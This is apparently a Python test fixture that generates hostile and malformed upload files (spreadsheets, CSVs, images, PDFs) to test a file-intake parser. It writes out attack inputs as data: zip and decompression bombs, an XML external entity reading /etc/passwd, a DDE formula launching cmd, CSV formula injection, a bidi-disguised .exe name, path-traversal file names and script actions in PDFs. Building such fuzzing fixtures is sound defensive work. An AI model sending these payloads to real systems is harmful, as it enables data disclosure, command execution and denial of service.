"""Hostile and clumsy files, made of code from a seed: each a name and bytes, of a kind that people or attackers send."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from openpyxl import Workbook
from PIL import Image

from tests.evidence.files import JPEG, PNG, headed, patchwork, pdf, photo, png

Made = tuple[str, bytes]
_BIDI = "\u202e"
_FORMULA = '=HYPERLINK("http://x/?"&A1,"点")'


def book(*rows: list, name: str = "点位") -> bytes:
    made = Workbook()
    made.active.title = name
    for row in rows or (["村居", "总户数"], ["江口村", 5]):
        made.active.append(row)
    target = io.BytesIO()
    made.save(target)
    return target.getvalue()


PLAIN = book()


def changed(content: bytes, change: Callable[[str, bytes], bytes], **more: bytes) -> bytes:
    """A workbook whose parts were changed after it was saved; ``more`` are parts besides."""
    source, target = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            archive.writestr(name, change(name, source.read(name)))
        for name, part in more.items():
            archive.writestr(name.replace("__", "/"), part)
    return target.getvalue()


def in_sheet(old: bytes, new: bytes) -> bytes:
    return changed(PLAIN, lambda name, part: part.replace(old, new) if "sheet1.xml" in name else part)


def zipped(**parts: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name.replace("__", "/"), part)
    return target.getvalue()


def lying(content: bytes, size: int) -> bytes:
    """An archive whose entries say that they hold so many bytes."""
    made = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = made.find(mark)
        while start >= 0:
            made[start + place : start + place + 4] = struct.pack("<I", size)
            start = made.find(mark, start + 4)
    return bytes(made)


def cut(chance: random.Random, content: bytes) -> bytes:
    return content[: chance.randrange(1, len(content))]


def spoilt(chance: random.Random, content: bytes) -> bytes:
    """Some bytes of it are others."""
    made = bytearray(content)
    for _ in range(chance.randrange(1, 12)):
        made[chance.randrange(len(made))] = chance.randrange(256)
    return bytes(made)


def open_document(chance: random.Random) -> bytes:
    times = chance.choice((1, 1000, 10**6, 10**9))
    table = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
        f'<office:body><table:table table:name="t"><table:table-row table:number-rows-repeated="{times}">'
        f'<table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="{times}"><text:p>1</text:p>'
        "</table:table-cell></table:table-row></table:table></office:body></office:document-content>"
    )
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("mimetype", kind)
        archive.writestr("META-INF/manifest.xml", "<m/>")
        archive.writestr("content.xml", table)
    return target.getvalue()


def square(mode: str, side: int) -> bytes:
    """A picture of one colour that packs to nothing and unpacks to very much."""
    depth = {"L": 1, "RGB": 3, "RGBA": 4}[mode]
    rows = zlib.compressobj(9)
    body = b"".join(rows.compress(b"\0" + bytes(side * depth)) for _ in range(side)) + rows.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, {"L": 0, "RGB": 2, "RGBA": 6}[mode], 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", body), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(each)) + name + each + struct.pack(">I", zlib.crc32(name + each)) for name, each in chunks
    )


def progressive(side: int) -> bytes:
    target = io.BytesIO()
    patchwork(3, side, side).save(target, "JPEG", progressive=True, quality=60)
    return target.getvalue()


def ole(stream: str, size: int) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + stream.encode("utf-16-le") + b"\xff" * size


def deep_pdf(depth: int) -> bytes:
    return pdf("[" * depth + "]" * depth)


def flate_pdf(size: int) -> bytes:
    packed = zlib.compress(bytes(size), 9).decode("latin-1")
    return pdf(f"<</Length {len(packed)}/Filter/FlateDecode>>stream\n{packed}\nendstream ")


KINDS: dict[str, Callable[[random.Random], Made]] = {
    "zip bomb in a sheet": lambda c: ("a.xlsx", changed(PLAIN, lambda n, p: p + b" " * c.choice((30, 90)) * 10**6 if "sheet1" in n else p)),
    "nested zips": lambda c: ("a.xlsx", zipped(**{"xl__workbook.xml": zipped(a=zipped(b=b"0" * 10**6))})),
    "a thousand parts": lambda c: ("a.xlsx", zipped(**{f"xl__{n}.xml": b"<a/>" for n in range(c.choice((1001, 3000)))})),
    "far corner": lambda c: ("a.xlsx", in_sheet(b'r="A2"', c.choice((b'r="XFD1048576"', b'r="A1048576"', b'r="ZZZ999999999"')))),
    "dtd": lambda c: ("a.xlsx", in_sheet(b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><worksheet')),
    "outer entity": lambda c: ("a.xlsx", in_sheet(b"<worksheet", b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><worksheet')),
    "utf-16 sheet": lambda c: ("a.xlsx", changed(PLAIN, lambda n, p: p.decode().encode("utf-16") if "sheet1" in n else p)),
    "lying sizes": lambda c: ("a.xlsx", lying(PLAIN, c.choice((1, 10, 2**31, 2**32 - 1)))),
    "truncated workbook": lambda c: ("a.xlsx", cut(c, PLAIN)),
    "spoilt workbook": lambda c: ("a.xlsx", spoilt(c, PLAIN)),
    "workbook with a tail": lambda c: ("a.xlsx", PLAIN + c.randbytes(2000)),
    "page before a workbook": lambda c: ("a.xlsx", b"<html><script>alert(1)</script>" + PLAIN),
    "macros": lambda c: ("a.xlsm", changed(PLAIN, lambda n, p: p, xl__vbaProject_bin=c.randbytes(4000))),
    "renamed picture": lambda c: ("a.xlsx", JPEG),
    "renamed workbook": lambda c: ("a.jpg", PLAIN),
    "formulas": lambda c: ("a.xlsx", book(["村居", "总户数"], [_FORMULA, "=1+1"], ["@SUM(1)", "+cmd|' /C calc'!A0"])),
    "huge cells": lambda c: ("a.xlsx", book(["村" * 32_000, "总户数"], ["x" * 32_000, 5])),
    "many cells": lambda c: ("a.xlsx", book(*[[n, *range(12)] for n in range(c.choice((2_100, 5_000)))])),
    "huge numbers": lambda c: ("a.xlsx", in_sheet(b"<v>5</v>", c.choice((b"<v>1e999</v>", b"<v>nan</v>", b"<v>" + b"9" * 5_000 + b"</v>")))),
    "string that is not there": lambda c: ("a.xlsx", in_sheet(b"<v>5</v>", b'<v>99999999</v>').replace(b"x", b"x")),
    "deep tags": lambda c: ("a.xlsx", in_sheet(b"<sheetData>", b"<g>" * 50_000 + b"<sheetData>")),
    "many merges": lambda c: ("a.xlsx", in_sheet(b"</sheetData>", b"</sheetData><mergeCells>" + b'<mergeCell ref="A1:CV200000"/>' * 9_000 + b"</mergeCells>")),
    "many tags": lambda c: ("a.xlsx", in_sheet(b"<sheetData>", b"<sheetData>" + b"<row/>" * 900_000)),
    "open document": lambda c: ("a.ods", open_document(c)),
    "old workbook": lambda c: ("a.xls", ole(c.choice(("Workbook", "Book", "EncryptedPackage", "WordDocument")), c.randrange(9_000))),
    "csv": lambda c: ("a.csv", "村居,总户数\n江口村,5\n".encode(c.choice(("utf-8", "gbk", "utf-16", "utf-32", "hz", "utf-7"))))
    ,
    "csv without end": lambda c: ("a.csv", b'"' * c.choice((1, 3, 100_001)) + b"a,b\n" * 9_000),
    "csv of one line": lambda c: ("a.csv", b"," * 1_000_000),
    "csv with NUL": lambda c: ("a.csv", b"a\0,b\0\n" * 99),
    "csv formulas": lambda c: ("a.csv", f"村居,总户数\n{_FORMULA},@1\n".encode()),
    "long lines of blanks": lambda c: ("a.csv", b" " * 1_900_000),
    "name that turns": lambda c: (f"照片{_BIDI}gpj.exe", c.choice((JPEG, PLAIN))),
    "name that is a path": lambda c: (c.choice(("../../etc/passwd", "C:\\a\\b.jpg", "", "." * 300, "a\r\nb: c", "😀" * 300)), c.choice((PNG, PLAIN))),
    "nothing": lambda c: ("a.jpg", b""),
    "noise": lambda c: (c.choice(("a.jpg", "a.xlsx", "a.pdf", "a.xls")), c.randbytes(c.randrange(1, 99_999))),
    "noise behind a beginning": lambda c: ("a", c.choice((b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"%PDF-1.7", b"PK\x03\x04", b"\xd0\xcf\x11\xe0")) + c.randbytes(9_000)),
    "picture said to be vast": lambda c: ("a.png", headed(c.choice((10_000, 2**31 - 1)), 10_000)),
    "picture that unpacks to much": lambda c: ("a.png", square(c.choice(("L", "RGB", "RGBA")), 10_000 if c.random() < 0.2 else 4_890)),
    "large progressive picture": lambda c: ("a.jpg", progressive(c.choice((2_000, 4_000)))),
    "truncated picture": lambda c: ("a.jpg", cut(c, photo(800, 600)) + c.choice((b"", b"\xff\xd9"))),
    "spoilt picture": lambda c: ("a.jpg", spoilt(c, c.choice((JPEG, PNG, photo(900, 700))))),
    "picture and page": lambda c: ("a.jpg.html", JPEG[:-2] + b"<script>alert(1)</script>\xff\xd9"),
    "picture and archive": lambda c: ("a.jpg", JPEG + PLAIN),
    "picture with a vast profile": lambda c: ("a.jpg", saved_with(c.randbytes(60_000))),
    "gif and bmp": lambda c: ("a.jpg", drawn(c.choice(("GIF", "BMP", "TIFF", "WEBP")))),
    "tiny picture": lambda c: ("a.png", png(1, 1)),
    "script in a pdf": lambda c: ("a.pdf", pdf(c.choice(("<</S/JavaScript/JS(x)>>", "<</S/Launch/F(x)>>", "<</Type/EmbeddedFile>>", "<</S/Java#53cript>>")))),
    "deep pdf": lambda c: ("a.pdf", deep_pdf(c.choice((50, 5_000, 100_000)))),
    "pdf bomb": lambda c: ("a.pdf", flate_pdf(c.choice((10**6, 10**8)))),
    "pdf that refers to itself": lambda c: ("a.pdf", pdf("10 0 R", "12 0 R", "11 0 R", root="/Pages 10 0 R")),
    "pdf of many pages": lambda c: ("a.pdf", pdf(pages=c.choice((2_000, 8_000)))),
    "truncated pdf": lambda c: ("a.pdf", cut(c, pdf(pages=9)) + c.choice((b"", b"%%EOF"))),
    "spoilt pdf": lambda c: ("a.pdf", spoilt(c, pdf(pages=9))),
    "pdf with a wrong table": lambda c: ("a.pdf", pdf(pages=9).replace(b"00000 n", b"00000 f"), ),
}  # fmt: skip


def saved_with(profile: bytes) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (300, 300)).save(target, "JPEG", icc_profile=profile)
    return target.getvalue()


def drawn(form: str) -> bytes:
    target = io.BytesIO()
    patchwork(1, 300, 300).save(target, form)
    return target.getvalue()


def files(count: int, seed: int = 1) -> Iterator[tuple[str, str, bytes]]:
    """So many files, of all kinds in turn: the kind, the name, the bytes."""
    chance, kinds = random.Random(seed), list(KINDS)
    for number in range(count):
        kind = kinds[number % len(kinds)]
        yield (kind, *KINDS[kind](chance))
